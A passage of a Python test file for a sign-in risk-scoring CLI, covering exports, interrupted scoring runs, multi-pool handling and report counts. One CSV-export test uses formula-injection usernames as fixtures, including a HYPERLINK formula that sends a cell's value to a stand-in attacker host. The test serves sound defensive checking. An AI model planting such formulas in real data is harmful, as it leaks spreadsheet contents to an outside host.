    missing = tmp_path / "no-such-folder" / "x.csv"
    res = runner.invoke(app, ["export", "--out", str(missing), "--db", str(store)])
    assert res.exit_code == 2, res.output
    assert f"{missing}: folder {missing.parent} does not exist" in res.stderr
    assert not missing.parent.exists()
    folder = tmp_path / "a-folder"
    folder.mkdir()
    res = runner.invoke(app, ["export", "--out", str(folder), "--format", "jsonl", "--db", str(store)])
    assert res.exit_code == 2 and f"{folder}: is a folder" in res.stderr
    assert list(folder.iterdir()) == []
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith(store.name)] == ["a-folder"]
    # a folder no file can be made in, whatever its permission bits say (root passes them): tried, before the
    # store is opened (it had been created, then the export failed)
    fresh = tmp_path / "fresh.duckdb"
    res = runner.invoke(app, ["export", "--out", "/proc/riskgate-x.csv", "--db", str(fresh)])
    assert res.exit_code == 2 and "/proc/riskgate-x.csv: folder /proc is not writable" in res.stderr, res.output
    assert not list(tmp_path.glob("fresh.duckdb*"))


def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_a_replaced_file_keeps_its_mode(store, tmp_path):
    """A username is whatever was typed at a sign-in form: ``=HYPERLINK(...)`` in a CSV export ran as a formula in
    the analyst's spreadsheet. A cell starting with = + - @, a tab or a carriage return gets a leading ' (OWASP);
    JSON lines keep the value as it is. And an existing private file was made world-readable by the rename."""
    import csv as csvlib
    import stat

    from tests.events_gen import event, write_jsonl

    names = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+SUM(1)", "-2+3", "@SUM(1)", "\tx", "\rx",
             "  =1+1", "\uff1dSUM(1)", "ok-user", "a=b"]
    write_jsonl(tmp_path / "odd.jsonl", [event(90_000 + i, Username=u, ClientId="=1+1" if i == 0 else "app1")
                                         for i, u in enumerate(names)])
    rg("ingest", tmp_path / "odd.jsonl", db=store)
    rg("score", db=store)
    out = tmp_path / "x.csv"
    out.write_text("private\n")
    out.chmod(0o600)
    rg("export", "--out", out, db=store)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with open(out, newline="", encoding="utf-8") as fh:
        rows = {r["username"]: r for r in csvlib.DictReader(fh)}
    assert {u for u in rows if u[:1] == "'"} == {"'" + u for u in names[:8]}
    assert "ok-user" in rows and "a=b" in rows
    assert rows["'" + names[0]]["client_id"] == "'=1+1"
    jl = tmp_path / "x.jsonl"
    rg("export", "--out", jl, "--format", "jsonl", db=store)
    assert {json.loads(x)["username"] for x in jl.read_text().splitlines()} >= set(names)


@pytest.mark.parametrize("argv", [["score"], ["export", "--out", "{tmp}/x.csv"], ["train"], ["tune", "--max-blocked", "1%"],
                                  ["whatif"]])
def test_an_empty_period_is_refused_before_the_store_changes(store, tmp_path, argv):
    """--since at or after --until matches no event: every command taking a period says so instead of doing
    nothing (or training on nothing) in silence, and nothing in the store changes."""
    before = q(store, "SELECT (SELECT count(*) FROM score_runs), (SELECT count(*) FROM assessments), "
                      "(SELECT count(*) FROM models)")
    args = [a.format(tmp=tmp_path) for a in argv]
    for since, until in (("2026-03-01", "2026-02-01"), ("2026-03-01T08:00:00Z", "2026-03-01T09:00:00+01:00")):
        res = runner.invoke(app, [*args, "--since", since, "--until", until, "--db", str(store)])
        assert res.exit_code == 2, res.output
        assert f"--since {since} is not before --until {until}" in res.stderr
    assert q(store, "SELECT (SELECT count(*) FROM score_runs), (SELECT count(*) FROM assessments), "
                    "(SELECT count(*) FROM models)") == before
    assert not (tmp_path / "x.csv").exists()


def test_the_library_refuses_an_empty_period_too_before_the_store_changes(store, tmp_path):
    """A notebook calling the library with since at or after until gets the same refusal as the CLI gives."""
    from risk import features, report, tuning
    from risk.model import training
    from risk.score import score_events

    before = q(store, "SELECT (SELECT count(*) FROM score_runs), (SELECT count(*) FROM assessments), "
                      "(SELECT count(*) FROM models)")
    t = datetime(2026, 3, 1, 8, tzinfo=timezone.utc)
    calls = {
        "score_events": lambda con, a, b: score_events(con, since=a, until=b, rescore=True),
        "compute_features": lambda con, a, b: features.compute_features(con, since=a, until=b),
        "train": lambda con, a, b: training.train(con, since=a, until=b),
        "history (tune, whatif)": lambda con, a, b: tuning.history(con, since=a, until=b),
        "export_assessments": lambda con, a, b: report.export_assessments(con, tmp_path / "x.csv", since=a, until=b),
        "pipeline_summary": lambda con, a, b: report.pipeline_summary(con, since=a, until=b),
    }
    con = risk.store.connect(store)
    try:
        for name, call in calls.items():
            for a, b in ((t, t), (t, t - timedelta(days=1))):
                with pytest.raises(RiskgateError, match=re.escape(
                        f"since {a.isoformat()} is not before until {b.isoformat()}: that period holds no event")):
                    call(con, a, b)
    finally:
        con.close()
    assert q(store, "SELECT (SELECT count(*) FROM score_runs), (SELECT count(*) FROM assessments), "
                    "(SELECT count(*) FROM models)") == before
    assert not (tmp_path / "x.csv").exists()


def _victim_store(tmp_path, monkeypatch, n: int, others: int = 0):
    """A store of ``n`` generated sign-ins and one of ``victim`` with compromised credentials (the test GeoIP
    databases), its users loaded (``others`` of them besides the victim, with addresses) and a model trained
    without labels; the store and the users file."""
    from tests.events_gen import event, many, write_jsonl
    from tests.geo_fixtures import build

    city, asn = build(tmp_path)
    monkeypatch.setenv("RISKGATE_GEOIP_CITY", str(city))
    monkeypatch.setenv("RISKGATE_GEOIP_ASN", str(asn))
    db = tmp_path / "s.duckdb"
    write_jsonl(tmp_path / "e.jsonl", [*many(n), event(n, Username="victim", CompromisedCredentialsDetected=True)])
    users = tmp_path / "users.csv"
    users.write_text("username,sub,status,enabled,mfa_settings,preferred_mfa,email\n"
                     + "".join(f"user{i},sub-{i},CONFIRMED,true,,,user{i}@example.com\n" for i in range(others))
                     + "victim,sub-v,CONFIRMED,true,,,victim@example.com\n")
    rg("ingest", tmp_path / "e.jsonl", db=db)
    rg("users", "load", users, db=db)
    rg("train", "--no-labels", db=db)
    return db, users


def test_enforced_compromised_block_sets_reset_required_and_notify_sends_once(tmp_path, monkeypatch):
    monkeypatch.setenv("RISKGATE_OUTBOX", str(tmp_path / "outbox"))
    monkeypatch.setenv("RISKGATE_NOTIFY_FROM", "security@example.com")
    monkeypatch.setenv("RISKGATE_FEEDBACK_SECRET", "test-secret-0123456789abcdef")
    monkeypatch.setenv("RISKGATE_PUBLIC_URL", "https://riskgate.example.com")
    db, users = _victim_store(tmp_path, monkeypatch, 400, others=50)
    rg("mode", "ENFORCED", db=db)
    unsent = tmp_path / "unsent.duckdb"
    shutil.copy(db, unsent)
    stopped = tmp_path / "stopped.duckdb"
    shutil.copy(db, stopped)
    out = json.loads(rg("score", "--notify", "--json", db=db).stdout)
    assert q(db, "SELECT user_status FROM users WHERE username = 'victim'") == [("RESET_REQUIRED",)]
    assert q(db, "SELECT risk_decision, blocked, reset_required FROM assessments a JOIN events e USING (event_id) "
                 "WHERE e.username = 'victim'") == [("Block", True, True)]
    due = q(db, "SELECT count(*) FROM assessments WHERE notification IS NOT NULL")[0][0]
    assert out["notifications"] == due
    assert q(db, "SELECT count(*) FROM notifications WHERE status = 'outbox'")[0][0] == due
    assert len(list((tmp_path / "outbox").glob("*.eml"))) == due
    rg("score", "--rescore", "--notify", db=db)  # the same decisions again: nothing is sent twice
    assert len(list((tmp_path / "outbox").glob("*.eml"))) == due
    assert q(db, "SELECT count(*) FROM assessments")[0][0] == 401
    # the victim resets the password; rescoring the old sign-in does not make them reset it again
    users.write_text("username,sub,status,enabled,mfa_settings,preferred_mfa,email\n"
                     "victim,sub-v,CONFIRMED,true,,,victim@example.com\n")
    rg("users", "load", users, db=db)
    rg("score", "--rescore", db=db)
    assert q(db, "SELECT user_status FROM users WHERE username = 'victim'") == [("CONFIRMED",)]
    assert q(db, "SELECT count(*) FROM assessments WHERE reset_required")[0][0] == 1
    # decided anew under another configuration (every level blocks and notifies): no email at all, neither a second
    # one with the other template about an event already emailed about, nor a first one about an event whose first
    # assessment made none due (an email is due only from an event's first assessment: the decision actually taken)
    before = {r[0] for r in q(db, "SELECT event_id FROM notifications WHERE status = 'outbox'")}
    first = q(db, "SELECT event_id, notification FROM assessments ORDER BY 1")
    (tmp_path / "block.json").write_text(json.dumps({"AccountTakeoverRiskConfiguration": {"Actions": {
        lvl: {"Notify": True, "EventAction": "BLOCK"} for lvl in ("LowAction", "MediumAction", "HighAction")}}}))
    rg("config", "set", tmp_path / "block.json", db=db)
    out = json.loads(rg("score", "--rescore", "--notify", "--json", db=db).stdout)
    assert (out["events_scored"], out["notifications"]) == (401, 0)
    assert q(db, "SELECT event_id, notification FROM assessments ORDER BY 1") == first  # the first assessments'
    assert q(db, "SELECT count(*) FROM assessments WHERE would_notify <> notification")[0][0] > 0, \
        "some events would now be emailed about with another template"
    assert {r[0] for r in q(db, "SELECT event_id FROM notifications")} == before
    assert len(list((tmp_path / "outbox").glob("*.eml"))) == len(before) == due
    # no secret to sign the feedback links: refused before anything is scored (every email would fail, and use up
    # one of its attempts in every run, so that none was ever sent once the secret was set)
    monkeypatch.delenv("RISKGATE_FEEDBACK_SECRET")
    runs = q(unsent, "SELECT count(*) FROM score_runs")
    res = runner.invoke(app, ["score", "--notify", "--db", str(unsent)])
    assert res.exit_code == 2, res.output
    assert "RISKGATE_FEEDBACK_SECRET is not set" in res.stderr and "carry feedback links" in res.stderr
    assert q(unsent, "SELECT count(*) FROM notifications") == [(0,)]
    assert q(unsent, "SELECT count(*) FROM score_runs") == runs
    monkeypatch.setenv("RISKGATE_FEEDBACK_SECRET", "s" * 32)
    rg("score", "--notify", db=unsent)
    assert q(unsent, "SELECT count(*) FROM notifications WHERE status = 'outbox'")[0][0] == due

    # a run stopped while it writes a chunk keeps none of it: its resets come with its assessments or not at all
    from risk import score as scoring
    from risk import store as rstore

    def stop(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(scoring, "_apply_resets", stop)
    con = rstore.connect(stopped)
    try:
        with pytest.raises(KeyboardInterrupt):
            scoring.score_events(con)
    finally:
        con.close()
    assert q(stopped, "SELECT count(*) FROM assessments") == [(0,)]
    assert q(stopped, "SELECT status FROM score_runs") == [("interrupted",)]
    monkeypatch.undo()
    rg("score", db=stopped)
    assert q(stopped, "SELECT user_status FROM users WHERE username = 'victim'") == [("RESET_REQUIRED",)]


def test_a_run_that_dies_mid_way_keeps_whole_chunks_and_the_next_run_completes_it(store, tmp_path, monkeypatch):
    from risk import score as scoring
    from risk import store as rstore

    full = tmp_path / "full.duckdb"
    shutil.copy(store, full)
    rg("score", db=full)
    real = scoring.assess_chunk
    calls = []

    def dying(*a, **k):
        calls.append(1)
        if len(calls) == 3:
            raise KeyboardInterrupt  # as if the process were stopped in the middle of the third chunk
        return real(*a, **k)

    monkeypatch.setattr(scoring, "assess_chunk", dying)
    con = rstore.connect(store)
    with pytest.raises(KeyboardInterrupt):
        scoring.score_events(con, chunk_rows=400)
    con.close()
    done = q(store, "SELECT count(*) FROM assessments")[0][0]
    assert 0 < done < q(store, "SELECT count(*) FROM events")[0][0]
    assert q(store, "SELECT status FROM score_runs") == [("interrupted",)]
    monkeypatch.setattr(scoring, "assess_chunk", real)
    rg("score", db=store)
    assert q(store, COMPARE) == q(full, COMPARE)


def test_a_run_interrupted_just_after_a_chunk_is_written_records_every_event_it_scored(store, monkeypatch):
    """A Ctrl-C between a chunk's commit and the run's count of it: the run's events_scored was written from the
    count, one chunk short of the assessments the run had committed."""
    from risk import score as scoring
    from risk import store as rstore

    real = scoring._write
    calls = []

    def write_then_die(*a, **k):
        real(*a, **k)
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt  # the second chunk is committed, the count not yet taken
    monkeypatch.setattr(scoring, "_write", write_then_die)
    con = rstore.connect(store)
    with pytest.raises(KeyboardInterrupt):
        scoring.score_events(con, chunk_rows=400)
    con.close()
    assert q(store, """SELECT r.status, r.events_scored, (SELECT count(*) FROM assessments a WHERE a.run_id = r.run_id)
                       FROM score_runs r""") == [("interrupted", 800, 800)]


def test_ctrl_c_that_leaves_a_futures_lock_held_does_not_hang_the_feature_thread():
    """CPython can skip a ``with`` block's ``__exit__`` when Ctrl-C lands right after its ``__enter__``
    (bpo-29988): inside ``Future.result`` that left the future's lock held, and the feature thread, setting its
    result, waited for it forever (``riskgate score`` hung after Ctrl-C, holding the store). ``_result`` lets go of
    it. Reproduced with a real future whose ``result`` takes the lock and is interrupted there."""
    import threading
    from concurrent.futures import Future

    from risk.score import _result

    fut = Future()

    def interrupted_inside_with(timeout=None):
        fut._condition.acquire()  # __enter__ ran ...
        raise KeyboardInterrupt  # ... and the interrupt skipped __exit__

    fut.result = interrupted_inside_with
    with pytest.raises(KeyboardInterrupt):
        _result(fut)
    setter = threading.Thread(target=fut.set_result, args=(42,), daemon=True)
    setter.start()
    setter.join(10)
    assert not setter.is_alive() and fut.done()


def test_ctrl_c_while_a_chunks_features_are_awaited_stops_their_query(monkeypatch):
    """A Ctrl-C while the run waited for a chunk's features (chunk 0 always, and whenever features are slower than
    assessing) left that chunk out of what close() stopped: the run held the store until the query ended. The
    query is interrupted now, again until it ends. A real DuckDB query that would run for minutes."""
    import os
    import signal
    import threading
    import time

    import duckdb

    from risk.score import _FeaturePrefetch

    con = duckdb.connect()
    prefetch = _FeaturePrefetch(con, [(None, None)])

    def slow(k):
        cur = prefetch.cursor = con.cursor()
        try:
            return cur.sql("SELECT sum(i * i % 7) FROM range(200000000000) t(i)").fetchall()
        finally:
            prefetch.cursor = None
            cur.close()

    monkeypatch.setattr(prefetch, "_compute", slow)
    threading.Timer(0.5, os.kill, (os.getpid(), signal.SIGINT)).start()  # Ctrl-C, while take() waits
    with pytest.raises(KeyboardInterrupt):
        prefetch.take(0)
    started = time.monotonic()
    prefetch.close()
    assert time.monotonic() - started < 10
    con.close()


def test_the_store_has_half_its_threads_and_the_model_one_while_a_chunk_is_assessed_beside_the_next_ones_features(
        store, tmp_path, monkeypatch):
    """While the next chunk's features are computed beside an assessment, the store's DuckDB has half its
    threads and the model's OpenMP runtime one; otherwise, and after the run (also one that failed), all of
    them. The assessments are those of a run without chunks ahead."""
    import time

    from threadpoolctl import threadpool_info, threadpool_limits

    from risk import score as scoring
    from risk import store as rstore
    from ingest.store import threads

    full = tmp_path / "full.duckdb"
    shutil.copy(store, full)
    rg("score", db=full)
    real_assess, real_compute = scoring.assess_chunk, scoring._FeaturePrefetch._compute
    seen = []

    def slow_compute(self, k):
        if k > 0:
            time.sleep(0.3)  # still running when chunk k - 1 is assessed
        return real_compute(self, k)

    def openmp_threads():
        found = {i["num_threads"] for i in threadpool_info() if i["user_api"] == "openmp"}
        assert len(found) == 1, threadpool_info()  # scikit-learn's runtime, loaded with the model
        return found.pop()

    def assess(ctx, feats, events):
        seen.append((threads(ctx.con), openmp_threads()))
        return real_assess(ctx, feats, events)

    monkeypatch.setattr(scoring._FeaturePrefetch, "_compute", slow_compute)
    monkeypatch.setattr(scoring, "assess_chunk", assess)
    con = rstore.connect(store)
    limit = threadpool_limits(limits=3, user_api="openmp")  # scikit-learn's runtime, loaded by the run above
    try:
        con.execute("SET threads = 4")
        result = scoring.score_events(con, chunk_rows=400)
        assert result.chunks >= 3
        assert seen == [(2, 1)] * (result.chunks - 1) + [(4, 3)]  # the last chunk has nothing ahead of it
        assert (threads(con), openmp_threads()) == (4, 3)

        def broken(ctx, feats, events):
            raise RuntimeError("the model broke")

        monkeypatch.setattr(scoring, "assess_chunk", broken)
        with pytest.raises(RuntimeError, match="the model broke"):
            scoring.score_events(con, rescore=True, chunk_rows=400)
        assert (threads(con), openmp_threads()) == (4, 3)
    finally:
        limit.restore_original_limits()
        con.close()
    assert q(store, COMPARE) == q(full, COMPARE)


def test_no_cyclic_collection_runs_while_a_chunk_is_assessed_and_the_collector_is_left_as_found(store):
    """assess_chunk pauses Python's cyclic garbage collector (the many short-lived objects of a chunk would
    start collections that find nothing) and restores it afterwards, also when the assessment fails."""
    import gc
    import sys

    from risk import score as scoring
    from risk import store as rstore
    from risk.features import compute_features

    con = rstore.connect(store)
    try:
        ctx = scoring._Context(con)
        feats = compute_features(con)
        events = scoring.events_to_assess(con, feats)
        inside = []  # per collection started: whether it started while an assessment ran

        def watch(phase, info):
            if phase == "start":
                frame = sys._getframe(1)
                while frame is not None and frame.f_code is not scoring._assess.__code__:
                    frame = frame.f_back
                inside.append(frame is not None)

        threshold = gc.get_threshold()
        gc.callbacks.append(watch)
        gc.set_threshold(10)  # a collection every 10 new objects: many in an assessment unless it is paused
        try:
            paused = scoring.assess_chunk(ctx, feats, events)
            during = sum(inside)
            unpaused = scoring._assess_chunk(ctx, feats, events)
            without = sum(inside) - during
        finally:
            gc.set_threshold(*threshold)
            gc.callbacks.remove(watch)
        assert during == 0 and without > 10
        assert paused.equals(unpaused) and paused.num_rows == feats.num_rows > 100
        assert gc.isenabled()

        with pytest.raises(RuntimeError, match="broke"):
            with scoring.cyclic_gc_paused():
                assert not gc.isenabled()
                raise RuntimeError("broke")
        assert gc.isenabled()
        gc.disable()  # paused by someone else: still paused after the block
        try:
            with scoring.cyclic_gc_paused():
                assert not gc.isenabled()
            assert not gc.isenabled()
        finally:
            gc.enable()
    finally:
        con.close()


def test_events_without_a_pool_in_a_store_of_several_pools_name_the_way_out(tmp_path, monkeypatch):
    """Which pool's configuration applies to an event without a UserPoolId is ambiguous once the store knows
    several: scoring says so and names what works for every command ($RISKGATE_USER_POOL_ID), then scores."""
    from tests.events_gen import event, many, write_jsonl

    monkeypatch.delenv("RISKGATE_USER_POOL_ID", raising=False)
    db = tmp_path / "s.duckdb"
    evs = many(60) + [event(60 + k, UserPoolId="eu-west-1_Second") for k in range(3)]
    evs = [{k: v for k, v in e.items() if k != "UserPoolId"} if i % 10 == 0 else e for i, e in enumerate(evs)]
    write_jsonl(tmp_path / "e.jsonl", evs)
    rg("ingest", tmp_path / "e.jsonl", db=db)
    rg("train", "--no-labels", db=db)
    res = runner.invoke(app, ["score", "--db", str(db)])
    assert res.exit_code == 2
    msg = " ".join(res.stderr.split())
    assert "events without a UserPoolId cannot be assessed: the store knows several pools (" in msg, msg
    assert "set $RISKGATE_USER_POOL_ID to the pool they belong to" in msg
    monkeypatch.setenv("RISKGATE_USER_POOL_ID", "eu-west-1_Second")
    rg("score", db=db)
    assert q(db, "SELECT count(*) FROM assessments")[0][0] == len(evs)


def test_two_pools_users_of_one_name_are_scored_apart_end_to_end(store, tmp_path):
    """Every user's events copied into a second pool (new ids, same usernames and times): each copy has its
    original's history, and a user with MFA in the first pool is not taken to have it in the second."""
    from risk.features import compute_features

    p1 = q(store, "SELECT any_value(user_pool_id) FROM events")[0][0]
    p2 = "eu-west-1_Second"
    con = risk.store.connect(store)
    try:
        con.execute("INSERT INTO events SELECT * REPLACE ('p2-' || event_id AS event_id, ? AS user_pool_id) FROM events",
                    [p2])
        con.execute("UPDATE users SET mfa_settings = ['SOFTWARE_TOKEN_MFA'], user_pool_id = ?, pool_key = ?", [p1, p1])
        sample = [r[0] for r in con.execute("SELECT event_id FROM events WHERE user_pool_id = ? AND "
                                            "event_response = 'Pass' ORDER BY hash(event_id) LIMIT 200", [p1]).fetchall()]
        f = {r["event_id"]: r for r in compute_features(con, event_ids=sample + ["p2-" + e for e in sample]).to_pylist()}
    finally:
        con.close()
    for e in sample:  # the same history in each pool: neither alice counts the other's sign-ins
        for col in ("history_size", "new_ip", "new_device", "hours_since_last_success", "user_failures_24h"):
            assert f["p2-" + e][col] == f[e][col], (e, col)
    assert max(f[e]["history_size"] for e in sample) > 5
    for pool in (p1, p2):
        doc = {"UserPoolId": pool, "AccountTakeoverRiskConfiguration": {"Actions": {
            level: {"Notify": False, "EventAction": "MFA_IF_CONFIGURED"}
            for level in ("LowAction", "MediumAction", "HighAction")}}}
        (tmp_path / "c.json").write_text(json.dumps(doc))
        rg("config", "set", tmp_path / "c.json", db=store)
        rg("mode", "ENFORCED", "--user-pool-id", pool, db=store)
    rg("score", db=store)
    rows = q(store, """SELECT e.user_pool_id, bool_and(a.mfa_challenge), bool_or(a.mfa_challenge), count(*)
                       FROM events e JOIN assessments a USING (event_id)
                       WHERE a.risk_level IS NOT NULL GROUP BY 1 ORDER BY 1""")
    by_pool = {r[0]: r[1:] for r in rows}
    assert by_pool[p1][:2] == (True, True) and by_pool[p1][2] > 0  # every risky sign-in challenged: MFA set up
    assert by_pool[p2][:2] == (False, False) and by_pool[p2][2] > 0  # none in P2: her namesake's MFA is not hers


def test_a_run_killed_after_a_chunk_says_how_many_events_it_scored(store):
    """A run's count was written only when it ended: a run killed (SIGKILL, no ``finally``) after committing
    chunks was recorded as having scored 0 events. The count now grows in each chunk's transaction."""
    import subprocess
    import sys
    import textwrap

    script = textwrap.dedent(f"""
        import os
        import risk.score as rs
        from risk import store
        calls = []
        real = rs.events_to_assess
        def dying(con, feats):
            calls.append(1)
            if len(calls) == 3:  # two chunks written: gone, as under kill -9
                os._exit(137)
            return real(con, feats)
        rs.events_to_assess = dying
        with store.connect({str(store)!r}) as con:
            rs.score_events(con, chunk_rows=100)
    """)
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 137, proc.stderr
    [(status, counted, run_id)] = q(store, "SELECT status, events_scored, run_id FROM score_runs")
    stored = q(store, "SELECT count(*) FROM assessments WHERE run_id = ?", [run_id])[0][0]
    assert status == "running" and counted == stored and stored >= 200
    rg("score", db=store)  # the next run completes it and records the earlier one as interrupted
    rows = q(store, "SELECT status, events_scored FROM score_runs ORDER BY started_at")
    assert rows[0] == ("interrupted", stored) and rows[1][0] == "completed"
    assert rows[1][1] + stored == q(store, "SELECT count(*) FROM events")[0][0]


def test_a_run_starting_marks_interrupted_only_the_runs_whose_process_is_gone(store):
    """A run starting marked every ``running`` run interrupted, also one still going in another process (the
    store is handed over between chunks, so a second ``riskgate score`` can start while one runs). Runs record
    their process; only those of a process that is gone (or that recorded none: older runs) are interrupted."""
    import subprocess
    import sys

    from risk.notify import this_process

    me = this_process()
    host, pid, start = me.split(":")
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"])
    try:
        from risk.notify import _start_time

        live = f"{host}:{other.pid}:{_start_time(other.pid)}"
        runs = {"live-other": live, "reused-pid": f"{host}:{other.pid}:1", "older": None,
                "this-process-ended": me, "other-host": f"elsewhere.example:{pid}:{start}",
                "other-host-silent": f"pod-7f9c:{pid}:{start}"}
        with risk.store.connect(store) as con:
            for run_id, proc in runs.items():
                # another host's run is judged by its progress: none for over an hour (risk.notify.OTHER_HOST_STALE_AFTER), it is gone
                con.execute("INSERT INTO score_runs (run_id, started_at, status, events_scored, process, progress_at) "
                            "VALUES (?, now(), 'running', 0, ?, now() - CAST(? AS INTERVAL))",
                            [run_id, proc, "2 hours" if run_id == "other-host-silent" else "1 minute"])
        rg("score", db=store)
        status = dict(q(store, "SELECT run_id, status FROM score_runs"))
        assert {k: status[k] for k in runs} == {"live-other": "running", "reused-pid": "interrupted",
                                                "older": "interrupted", "this-process-ended": "interrupted",
                                                "other-host": "running", "other-host-silent": "interrupted"}
        assert sorted(status.values()).count("completed") == 1
    finally:
        other.kill()
        other.wait()
    rg("score", db=store)  # its process gone now, the next run records it as interrupted
    assert dict(q(store, "SELECT run_id, status FROM score_runs"))["live-other"] == "interrupted"


def test_the_report_counts_sign_ins_blocked_by_a_blocked_range_apart_from_those_blocked_for_their_risk(store, tmp_path):
    """A BlockedIPRangeList blocks whatever the risk: the report counted those legitimate sign-ins as blocked
    "for their risk" (``riskgate tune`` leaves them out, no threshold changes them)."""
    from risk.feedback import LABELS_IN_FORCE_SQL

    legit = f"event_id IN (SELECT event_id FROM ({LABELS_IN_FORCE_SQL}) WHERE y = 0)"
    rg("score", db=store)
    before = json.loads(rg("report", "--json", db=store).stdout)
    ip, n = q(store, f"""SELECT client_ip, count(*) FROM events WHERE client_ip IS NOT NULL AND {legit}
                         AND event_type = 'SignIn' AND event_response = 'Pass' GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 1""")[0]
    risk_blocked_there = q(store, f"""SELECT count(*) FROM events e JOIN assessments a USING (event_id)
                                      WHERE e.client_ip = ? AND a.outcome = 'Block' AND {legit}
                                        AND e.event_type = 'SignIn' AND e.event_response = 'Pass'""", [ip])[0][0]
    assert n >= 5
    (tmp_path / "c.json").write_text(json.dumps({"RiskExceptionConfiguration": {"BlockedIPRangeList": [
        f"{ip}/{32 if '.' in ip else 128}"]}}))
    rg("config", "set", tmp_path / "c.json", db=store)
    rg("score", "--rescore", db=store)
    after = json.loads(rg("report", "--json", db=store).stdout)
    assert before["legitimate_range_blocked"] == 0 and after["legitimate_range_blocked"] == n
    assert after["legitimate_blocked"] == before["legitimate_blocked"] - risk_blocked_there
    assert f"{n:,} blocked by the BlockedIPRangeList" in " ".join(rg("report", db=store).stdout.split())


def test_tune_over_a_period_without_events_says_so_rather_than_to_score_first(store):
    """``tune`` over a period holding no events said "run `riskgate score` first", which would change nothing."""
    n = q(store, "SELECT count(*) FROM events")[0][0]
    res = runner.invoke(app, ["tune", "--max-high", "5%", "--db", str(store)])
    assert res.exit_code == 2
    assert " ".join(res.stderr.split()).endswith(f"{n:,} events not yet assessed, run `riskgate score` first")
    rg("score", db=store)
    res = runner.invoke(app, ["tune", "--max-high", "5%", "--since", "2090-01-01", "--db", str(store)])
    assert res.exit_code == 2
    assert " ".join(res.stderr.split()).endswith("no assessed sign-ins in the period: the store holds no events in it")


def test_the_report_counts_legitimate_sign_ins_blocked_for_compromised_credentials_apart(store, tmp_path):
    """A compromised-credentials BLOCK blocks whatever the level (``tune`` leaves it out of "for their risk"); the
    report counted those legitimate sign-ins as blocked for their risk."""
    from risk.feedback import LABELS_IN_FORCE_SQL

    legit = f"event_id IN (SELECT event_id FROM ({LABELS_IN_FORCE_SQL}) WHERE y = 0)"
    rg("score", db=store)
    before = json.loads(rg("report", "--json", db=store).stdout)
    with risk.store.connect(store) as con:
        con.execute(f"""UPDATE events SET compromised_credentials = true WHERE event_id IN (
                          SELECT event_id FROM events WHERE {legit} AND event_type = 'SignIn' AND event_response = 'Pass'
                          ORDER BY event_id LIMIT 40)""")
    was_blocked = q(store, """SELECT count(*) FROM events e JOIN assessments a USING (event_id)
                              WHERE e.compromised_credentials AND a.outcome = 'Block'""")[0][0]
    (tmp_path / "c.json").write_text(json.dumps({"CompromisedCredentialsRiskConfiguration": {
        "Actions": {"EventAction": "BLOCK"}}}))
    rg("config", "set", tmp_path / "c.json", db=store)
    rg("score", "--rescore", db=store)
    after = json.loads(rg("report", "--json", db=store).stdout)
    assert before["legitimate_credentials_blocked"] == 0 and after["legitimate_credentials_blocked"] == 40
    assert after["legitimate_blocked"] == before["legitimate_blocked"] - was_blocked
    assert "40 blocked for compromised credentials" in " ".join(rg("report", db=store).stdout.split())


def test_events_ingested_late_are_scored_and_the_later_assessments_they_change_are_named(store):
    """Events ingested after later ones were scored (late) are scored, but the events assessed before that come
    after them kept features that did not count them, without a word (an exploratory tester: 192 of 405 stale, 4
    with another level). The run says how many and the command that assesses them again; with it the store equals
    one run over everything."""
    rg("score", db=store)
    full = q(store, COMPARE)
    late = [r[0] for r in q(store, "SELECT event_id FROM events ORDER BY creation_date, event_id LIMIT 5 OFFSET 700")]
    t = q(store, "SELECT min(creation_date) FROM events WHERE list_contains(?, event_id)", [late])[0][0]
    after = q(store, "SELECT count(*) FROM events WHERE creation_date > ? AND NOT list_contains(?, event_id)",
              [t, late])[0][0]
    con = risk.store.connect(store)
    try:
        con.execute("DELETE FROM assessments WHERE list_contains(?, event_id)", [late])  # as if ingested only now
    finally:
        con.close()
    res = runner.invoke(app, ["score", "--json", "--db", str(store)])
    out = json.loads(res.stdout)
    since = f"{t.astimezone(timezone.utc):%Y-%m-%dT%H:%M:%S}Z"
    assert (out["events_scored"], out["stale_assessed"]) == (5, after) and after > 100
    assert out["stale_since"] == t.astimezone(timezone.utc).isoformat()
    assert f"`riskgate score --rescore --since {since}`" in out["warnings"][0] and out["warnings"][0] in " ".join(
        res.stderr.split())
    rg("score", "--rescore", "--since", since, db=store)
    assert q(store, COMPARE) == full
    quiet = json.loads(rg("score", "--json", db=store).stdout)  # nothing late any more: nothing said
    assert (quiet["events_scored"], quiet["stale_assessed"], quiet["warnings"]) == (0, 0, [])


def test_events_without_a_pool_in_a_store_of_several_are_refused_before_any_chunk_is_written(store, tmp_path):
    """With a second pool in the store, events without a UserPoolId cannot be assessed: the run found out at the
    chunk holding the first of them, after committing the chunks before it (scored with the users' MFA applying to
    nobody), and the re-run kept those. Now nothing is written, and the users warning comes first."""
    last = q(store, "SELECT max(creation_date) FROM events")[0][0].astimezone(timezone.utc)
    line = ('{{"EventId":"{id}",{pool}"Username":"zed","EventType":"SignIn","EventResponse":"Pass",'
            '"CreationDate":"{t:%Y-%m-%dT%H:%M:%S}Z"}}')
    f = tmp_path / "late.jsonl"
    f.write_text(line.format(id="other-pool", pool='"UserPoolId":"eu-west-1_Other",', t=last + timedelta(hours=1))
                 + "\n" + line.format(id="no-pool", pool="", t=last + timedelta(hours=2)) + "\n")
    rg("ingest", f, db=store)
    res = runner.invoke(app, ["score", "--chunk-rows", "50", "--db", str(store)])
    assert res.exit_code == 2, res.output
    err = " ".join(res.stderr.split())
    assert "belong to no pool" in err and "events without a UserPoolId cannot be assessed" in err
    assert err.index("belong to no pool") < err.index("cannot be assessed")
    assert q(store, "SELECT count(*) FROM assessments") == [(0,)]


def test_an_event_assessed_at_the_same_instant_as_a_late_one_counts_as_stale(store, tmp_path):
    """History orders events by (creation_date, event_id): ``zz-a`` ingested late comes before ``zz-b`` of the same
    instant, already assessed without it. It was not counted (only later instants were), and nothing was said."""
    rg("score", db=store)
    user, pool = q(store, "SELECT username, user_pool_id FROM events GROUP BY ALL ORDER BY count(*) DESC LIMIT 1")[0]
